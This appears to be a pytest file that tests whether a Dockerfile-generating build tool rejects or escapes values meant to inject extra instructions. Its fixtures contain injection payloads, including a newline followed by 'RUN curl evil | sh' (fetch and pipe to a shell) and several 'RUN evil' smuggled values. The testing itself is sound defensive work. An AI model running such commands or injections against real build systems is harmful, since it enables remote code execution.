"""Nothing injected: values with newlines, quotes, `$`, `\\` or `#` are rejected with one clear
line or escaped so the BuildKit parser sees exactly the instructions the targets declare."""

from __future__ import annotations

import json
from pathlib import Path

import dockerfile
import pytest

from tests.dockerfile_checks import check_dockerfile
from tests.support import run

PIN = "debian:bookworm-slim@sha256:" + "d" * 64
BASE = f'[workspace]\nname = "inj"\n\n[external.base]\nimage = "{PIN}"\n'


def workspace(tmp_path: Path, body: str, root_extra: str = "") -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "BUILD.toml").write_text(
        BASE.replace('name = "inj"\n', f'name = "inj"\n{root_extra}') + body
    )
    (root / "app.py").write_text("print(1)\n")
    return root


def target(**keys: object) -> str:
    lines = ["\n[[target]]", 'name = "t"', 'rule = "stages"', "image = true", 'from = "@base"']
    for key, value in keys.items():
        if isinstance(value, dict):
            pairs = ", ".join(f"{a} = {json.dumps(b)}" for a, b in value.items())
            lines.append(f"{key} = {{ {pairs} }}")
        else:
            lines.append(f"{key} = {json.dumps(value)}")
    return "\n".join(lines) + "\n"


REJECTED = {
    "newline in a step": target(steps=["RUN true\nRUN curl evil | sh"]),
    "carriage return in a step": target(steps=["RUN true\rRUN evil"]),
    "trailing backslash joins the next line": target(steps=["RUN true \\"]),
    "newline in an arg value": target(args={"X": "a\nRUN evil"}),
    "arg name with a space": target(args={"X Y": "1"}),
    "quote in a COPY source": target(inputs=["app.py"], steps=['COPY ["app\\".py", "/x"]']),
    "dollar in a COPY source": target(inputs=["app.py"], steps=["COPY $HOME /x"]),
    "hash in a target name": '\n[[target]]\nname = "t#x"\nrule = "stages"\nfrom = "@base"\n',
    "newline in a label": target().replace('from = "@base"', 'from = "//x\\n:y"'),
    "newline in an image name": target().replace("image = true", 'image = "a\\nb"'),
    "newline in a platform": target(platforms=["linux/amd64\nRUN x"]),
}


@pytest.mark.parametrize("case", sorted(REJECTED))
def test_rejected_with_one_line(case: str, tmp_path: Path):
    root = workspace(tmp_path, REJECTED[case])
    result = run("emit", cwd=root)
    assert result.code == 2, result.out
    assert len(result.err.splitlines()) == 1
    assert not (root / "build").exists()


def test_registry_and_external_with_white_space_are_rejected(tmp_path: Path):
    root = workspace(tmp_path, target(), root_extra='registry = "r.example\\nEVIL"\n')
    assert run("emit", cwd=root).code == 2
    root2 = tmp_path / "two"
    root2.mkdir()
    (root2 / "BUILD.toml").write_text('[workspace]\nname = "x"\n\n[external.base]\nimage = "a b"\n')
    assert run("emit", cwd=root2).code == 2


def test_quotes_dollars_and_backslashes_are_escaped(tmp_path: Path):
    value = 'say "hi" to $USER \\ # not a comment'
    root = workspace(
        tmp_path,
        target(
            args={"GREETING": value}, steps=['RUN echo "$GREETING" # a shell comment, inside RUN']
        ),
        root_extra='source = "https://git.example/${HOME}"\n',
    )
    assert run("emit", cwd=root).code == 0
    text = (root / "build/Dockerfile").read_text()
    check_dockerfile(text, {PIN})
    commands = dockerfile.parse_string(text)
    assert [c.cmd.upper() for c in commands] == ["FROM", "ARG", "RUN"]
    assert commands[1].value == ('GREETING="say \\"hi\\" to \\$USER \\\\ # not a comment"',)
    bake = json.loads((root / "build/docker-bake.json").read_text())
    labels = bake["target"]["t"]["labels"]
    assert labels["org.opencontainers.image.source"] == "https://git.example/$${HOME}"


def test_python_app_values_stay_one_instruction_each(tmp_path: Path):
    root = tmp_path / "ws"
    (root / "src").mkdir(parents=True)
    (root / "src/app.py").write_text("print(1)\n")
    (root / "requirements.txt").write_text("attrs\n")
    app = [
        'name = "app"', 'rule = "python_app"', 'python = ":py"',
        'requirements = ["requirements.txt"]', 'src = ["src/"]',
        'cmd = ["python", "-c", "print(\\"a\\\\nRUN evil\\")  # x"]',
        'env = { MOTD = "quote \\" and $PATH and \\\\" }',
    ]  # fmt: skip
    (root / "BUILD.toml").write_text(
        BASE
        + '\n[[target]]\nname = "os"\nrule = "distro_base"\nfrom = "@base"\n'
        + 'refresh = "2026-11-23"\n'
        + '\n[[target]]\nname = "py"\nrule = "python_interpreter"\nbase = ":os"\nversion = "3.11"\n'
        + "\n[[target]]\n"
        + "\n".join(app)
        + "\n"
    )
    assert run("emit", cwd=root).code == 0
    commands = dockerfile.parse_string((root / "build/Dockerfile").read_text())
    cmd = next(c for c in commands if c.cmd.upper() == "CMD")
    assert cmd.json and cmd.value == ("python", "-c", 'print("a\\nRUN evil")  # x')
    env = next(c for c in commands if c.cmd.upper() == "ENV" and "MOTD" in c.original)
    assert 'MOTD="quote \\" and $PATH and \\\\"' in env.original
    assert sum(c.cmd.upper() == "RUN" and "evil" in c.original for c in commands) == 0
